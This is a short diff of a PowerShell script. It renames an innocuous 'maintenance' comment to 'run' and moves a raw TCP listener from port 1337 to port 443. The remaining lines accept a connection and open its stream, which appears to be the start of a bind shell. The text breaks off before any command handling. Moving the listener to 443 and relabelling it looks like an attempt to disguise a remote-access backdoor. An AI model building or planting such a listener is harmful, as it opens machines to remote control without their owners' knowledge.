@@ -1,5 +1,5 @@
-# maintenance 9834 v2
-$l = [System.Net.Sockets.TcpListener]1337
+# run 7011 v2
+$l = [System.Net.Sockets.TcpListener]443
 $l.Start()
 $c = $l.AcceptTcpClient()
 $s = $c.GetStream()
